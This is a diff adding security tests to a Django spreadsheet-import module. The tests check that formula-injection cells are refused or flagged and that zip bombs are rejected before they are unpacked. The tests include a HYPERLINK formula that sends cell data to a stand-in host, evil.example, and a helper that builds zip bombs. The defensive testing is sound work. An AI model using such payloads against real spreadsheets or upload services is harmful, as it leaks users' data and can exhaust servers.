@@ -2,6 +2,7 @@
 refused rows as a workbook; refusal of other files."""
 
 import io
+import zipfile
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -402,3 +403,113 @@ def test_a_repeated_identifier_is_flagged_even_if_the_first_row_is_refused(users
     )
     assert not first.ok and not second.ok
     assert second.cleaned is None and len(second.errors) == 1
+
+
+# --- Hostile files ---------------------------------------------------------------------------
+
+
+def _as_text_cells(content: bytes) -> bytes:
+    """The file with every cell a string cell, as Excel saves a value typed after a quote
+    ('=1+1): openpyxl would otherwise have written a text beginning with "=" as a formula."""
+    workbook = load_workbook(io.BytesIO(content))
+    for row in workbook.active.iter_rows():
+        for cell in row:
+            if cell.data_type == "f":
+                cell.data_type = "s"
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+@pytest.mark.django_db
+def test_formula_like_cells_are_refused_or_flagged(users):
+    base = {"legal_form": "HTX", "sector": "khac", "commune_name": "Xã Tà Xùa"}
+    parsed = imports.read_workbook(
+        _as_text_cells(
+            workbook_bytes(
+                [
+                    {**row, "tax_code": valid_tax_code()}
+                    for row in [
+                        {**base, "name": '=HYPERLINK("http://evil.example/?x="&A3,"Xem")'},
+                        {**base, "name": "Tổ hợp tác A", "address": "@SUM(A1:A9)"},
+                        {**base, "name": "Tổ hợp tác B", "product_line": "- chè, - măng"},
+                        {**base, "name": "Tổ hợp tác C", "phone": "+84912345678"},
+                        {**base, "name": "Tổ hợp tác D"},
+                    ]
+                ]
+            )
+        )
+    )
+    equals, at, dash, phone, plain = imports.validate_rows(
+        parsed=parsed, actor=users["sct-sonla"], province=Province.objects.get(code=14)
+    )
+    message = equals.errors[0].message
+    assert not equals.ok and "“Tên cơ sở (*)”" in message and "“=”" in message
+    message = at.errors[0].message
+    assert not at.ok and "“Địa chỉ”" in message and "“@”" in message
+    # "-" and "+" begin real text: imported, with a warning (not for a phone number).
+    assert dash.ok and len(dash.warnings) == 1 and "Sản phẩm chính" in dash.warnings[0]
+    assert not phone.warnings
+    assert plain.ok and not plain.warnings and not plain.errors
+
+
+@pytest.mark.django_db
+def test_the_preview_shows_the_warning(client, users):
+    client.force_login(users["sct-sonla"])
+    row = {
+        "name": "Tổ hợp tác B",
+        "legal_form": "HTX",
+        "sector": "khac",
+        "commune_name": "Xã Tà Xùa",
+        "tax_code": valid_tax_code(),
+        "product_line": "- chè",
+    }
+    response = client.post(reverse("beneficiary-import"), {"file": _upload(workbook_bytes([row]))})
+    assert response.status_code == 302
+    body = client.get(response["Location"]).content.decode()
+    assert 'data-testid="row-warnings"' in body and "“Sản phẩm chính” bắt đầu bằng “-”" in body
+
+
+def _zip_bomb(*, unpacked: int, parts: int = 1) -> bytes:
+    """A few hundred kB that inflate to ``unpacked`` bytes of sheet XML."""
+    buffer = io.BytesIO()
+    chunk = b"<row><c><v>0</v></c></row>" * 40_000  # about 1 MB
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
+            written = 0
+            while written < unpacked:
+                sheet.write(chunk)
+                written += len(chunk)
+        for index in range(parts - 1):
+            archive.writestr(f"xl/media/image{index}.png", b"x")
+    return buffer.getvalue()
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    "bomb",
+    [
+        {"unpacked": imports.MAX_UNPACKED_BYTES + 1024 * 1024},
+        {"unpacked": 1024, "parts": imports.MAX_PARTS + 1},
+    ],
+)
+def test_a_zip_bomb_is_refused_before_it_is_unpacked(client, users, monkeypatch, bomb):
+    content = _zip_bomb(**bomb)
+    assert len(content) < imports.MAX_UPLOAD_BYTES  # it passes the upload size check
+
+    def must_not_parse(*args, **kwargs):
+        raise AssertionError("the workbook was parsed")
+
+    monkeypatch.setattr(imports, "load_workbook", must_not_parse)
+    client.force_login(users["sct-sonla"])
+    response = client.post(reverse("beneficiary-import"), {"file": _upload(content)})
+    assert response.status_code == 200
+    assert "file" in response.context["form"].errors
+    assert not ImportBatch.objects.exists()
+    with pytest.raises(imports.TemplateError, match="60 MB"):
+        imports.workbook_size_check(content)
+
+
+def test_a_filled_template_passes_the_size_check():
+    rows = [{"name": f"Cơ sở {i}", "legal_form": "HTX", "sector": "khac"} for i in range(5000)]
+    imports.workbook_size_check(workbook_bytes(rows))
